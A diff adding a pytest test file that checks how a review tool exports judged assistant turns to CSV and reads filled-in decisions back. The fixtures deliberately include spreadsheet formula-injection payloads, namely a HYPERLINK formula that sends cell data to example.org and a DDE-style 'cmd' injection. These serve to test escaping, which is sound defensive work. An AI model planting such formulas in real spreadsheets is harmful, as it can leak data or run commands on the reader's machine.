@@ -1,0 +1,176 @@
+"""Decisions in a spreadsheet, there and back."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from runs import message, talk, write_extract
+
+from opdkit.commands.review import read_csv, write_csv
+from opdkit.commands.review.sheet import COLUMNS, FILLED_IN, escaped, unescaped
+from opdkit.config.stages import JudgeConfig
+from opdkit.errors import OpdkitError
+from opdkit.judge import stage as judge
+from opdkit.store import reviews
+from opdkit.store.reviews import Review, in_force
+
+EVIL = '=HYPERLINK("http://example.org?x="&A1)'
+TURNS = ["a:1", "a:3", "b:1", "b:3"]
+
+
+@pytest.fixture
+def run(tmp_path):
+    said = talk("How warm, é?", "75 F.", "No, in Celsius please.", "24 C.", "Thanks, 日本!")
+    evil = [*talk(EVIL, '@SUM(1), "quoted"\nand more'), message("user", "-1+cmd|' /C calc'!A0"),
+            message("assistant", None, calls=[("f", "{}")]), message("tool", "\tok")]  # fmt: skip
+    run = write_extract(tmp_path / "run", {"a": said, "b": evil})
+    judge.run(JudgeConfig(run=run, shard="0/1"))
+    return run
+
+
+def written(run) -> list[dict[str, str]]:
+    stream = io.StringIO(newline="")
+    write_csv(run, stream)
+    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
+
+
+def read(run, rows, tmp_path, *, columns=COLUMNS, delimiter=",", encoding="utf-8-sig"):
+    stream = io.StringIO(newline="")
+    writer = csv.DictWriter(stream, columns, delimiter=delimiter, extrasaction="ignore")
+    writer.writeheader()
+    writer.writerows(rows)
+    path = tmp_path / "filled.csv"
+    path.write_bytes(stream.getvalue().encode(encoding))
+    return read_csv(run, path)
+
+
+def decided(run) -> dict:
+    return {name: review.decided for name, review in in_force(run).items()}
+
+
+def fill(run, **cells) -> list[dict[str, str]]:
+    """The sheet with some cells of turn a:1 filled in."""
+    rows = written(run)
+    next(row for row in rows if row["turn_id"] == "a:1").update(cells)
+    return rows
+
+
+def test_one_row_a_judged_turn_that_shows_what_happened(run):
+    rows = written(run)
+    assert [row["turn_id"] for row in rows] == TURNS
+    assert rows[0] | {"voted_hint": ""} == dict.fromkeys(COLUMNS, "") | {
+        "turn_id": "a:1", "request": "How warm, é?", "reply": "75 F.", "next_state": "No, in Celsius please.",
+        "voted_reward": "-1"}  # fmt: skip
+    assert "Celsius" in rows[0]["voted_hint"]
+
+
+def test_no_cell_is_a_formula(run):
+    """pitfall 31's neighbour: the reader of a sheet runs what a user of the assistant wrote."""
+    for row in written(run):
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), name
+            assert not cell.startswith("-") or cell == "-1"
+    assert written(run)[2]["request"] == f"'{EVIL}"
+
+
+@given(st.text(max_size=8) | st.sampled_from(["=1", "+1", "-1", "'", "''=", "@x", "\t", "-1+1"]))
+def test_what_is_escaped_comes_back(text):
+    assert unescaped(escaped(text)) == text
+    assert not escaped(text).startswith(("=", "@", "\t", "\r", "\n"))
+
+
+def test_a_sheet_that_nobody_touched_changes_nothing(run, tmp_path):
+    reviews.append(run, [Review("a:1", True, -1, True, EVIL, "=note"), Review("a:3", True, None, True, None),
+                         Review("b:1", note="-looked at\r\nit"), Review("b:3", False, None, True, "None")])  # fmt: skip
+    before = decided(run)
+    done = read(run, written(run), tmp_path)
+    assert (done.changed, done.struck, done.same, done.untouched) == (0, 0, 4, 0)
+    assert decided(run) == before
+    assert len(reviews.files(run)) == 1
+
+
+@pytest.mark.parametrize(("cells", "expected"), [
+    ({"reward": "1"}, {"reward": 1}), ({"reward": "-1.0"}, {"reward": -1}), ({"reward": " 0,0 "}, {"reward": 0}),
+    ({"reward": "None"}, {"reward": None}), ({"hint": "none"}, {"hint": None}),
+    ({"hint": " Use Celsius. ", "reward": "+1"}, {"reward": 1, "hint": "Use Celsius."}),
+    ({"hint": "'=1+1, say"}, {"hint": "=1+1, say"}), ({"note": "fine"}, {}), ({"action": "Accept"}, {}),
+])  # fmt: skip
+def test_what_is_filled_in_is_decided(run, tmp_path, cells, expected):
+    done = read(run, fill(run, **cells), tmp_path)
+    assert (done.changed, done.untouched) == (1, 3)
+    assert decided(run) == {"a:1": expected}
+    assert read(run, written(run), tmp_path).changed == 0
+
+
+def test_what_is_emptied_or_struck_is_withdrawn(run, tmp_path):
+    reviews.append(run, [Review("a:1", True, 1), Review("a:3", True, 1)])
+    rows = written(run)
+    rows[0]["reward"] = ""
+    rows[1]["action"] = "strike"
+    done = read(run, rows, tmp_path)
+    assert (done.changed, done.struck) == (2, 2)
+    assert decided(run) == {}
+
+
+def test_a_row_that_nobody_touched_does_not_undo_what_others_decided_since(run, tmp_path):
+    reviews.append(run, [Review("a:1", True, 1)])
+    rows = written(run)
+    reviews.append(run, [Review("a:1", True, -1), Review("a:3", True, 0)])
+    done = read(run, rows, tmp_path)
+    assert (done.changed, done.same, done.untouched) == (0, 1, 3)
+    assert decided(run) == {"a:1": {"reward": -1}, "a:3": {"reward": 0}}
+
+
+@pytest.mark.parametrize(("cells", "words"), [
+    ({"reward": "2"}, "reward is '2'"), ({"reward": "good"}, "is 'good'"), ({"reward": "nan"}, "reward is 'nan'"),
+    ({"action": "strke"}, "did you mean 'strike'"), ({"action": "accept", "reward": "1"}, "accept leaves everything"),
+    ({"turn_id": "nobody:1"}, "no judged turn nobody:1"), ({"turn_id": "a:3"}, "in line 2 already"),
+    ({"hint": "x" * 5000}, "hint must be text"),
+])  # fmt: skip
+def test_wrong_rows_are_named_by_their_line_and_nothing_is_taken(run, tmp_path, cells, words):
+    rows = written(run)
+    rows[2]["reward"] = "1"
+    rows[1].update(cells) if "turn_id" not in cells or cells["turn_id"] != "a:3" else rows[0].update(cells)
+    with pytest.raises(OpdkitError, match="nothing of the file was taken") as caught:
+        read(run, rows, tmp_path)
+    assert words in str(caught.value)
+    assert "line " in str(caught.value)
+    assert reviews.files(run) == []
+
+
+def test_the_line_of_a_row_is_that_of_the_file(run, tmp_path):
+    """Cells hold line breaks: the number is what an editor shows, not that of the row."""
+    rows = [row | {"request": "two\nlines"} for row in written(run)]
+    rows[1]["reward"] = "7"
+    with pytest.raises(OpdkitError, match="line 4: reward"):
+        read(run, rows, tmp_path)
+
+
+@pytest.mark.parametrize("delimiter", [";", "\t"])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
+def test_other_dialects_of_spreadsheets(run, tmp_path, delimiter, encoding):
+    done = read(run, fill(run, reward="1", hint="Größer; please, ok"), tmp_path, delimiter=delimiter, encoding=encoding)
+    assert done.changed == 1
+    assert decided(run) == {"a:1": {"reward": 1, "hint": "Größer; please, ok"}}
+
+
+def test_the_columns_that_show_the_turn_may_go_and_the_others_may_not(run, tmp_path):
+    rows = fill(run, reward="1")
+    assert read(run, rows, tmp_path, columns=("turn_id", *FILLED_IN, "decision")).changed == 1
+    with pytest.raises(OpdkitError, match="no column note"):
+        read(run, rows, tmp_path, columns=("turn_id", "reward", "hint", "action", "decision"))
+    with pytest.raises(OpdkitError, match="did you mean 'reward'"):
+        read(run, rows, tmp_path, columns=(*COLUMNS, "rewards"))
+
+
+@pytest.mark.parametrize(("data", "words"), [
+    (b"", "no column turn_id"), (b"\xff\xfe", "not UTF-8"), (b'turn_id,reward,hint,note,action,decision\n"a', "line"),
+    (b"turn_id,reward,hint,note,action,decision\na:1,,,,,,,1\n", "line 2: 8 cells under 6 columns"),
+    (b"turn_id,turn_id,reward,hint,note,action,decision\n", "comes twice"),
+])  # fmt: skip
+def test_what_is_no_sheet_is_named(run, tmp_path, data, words):
+    (tmp_path / "x.csv").write_bytes(data)
+    with pytest.raises(OpdkitError, match=words):
+        read_csv(run, tmp_path / "x.csv")
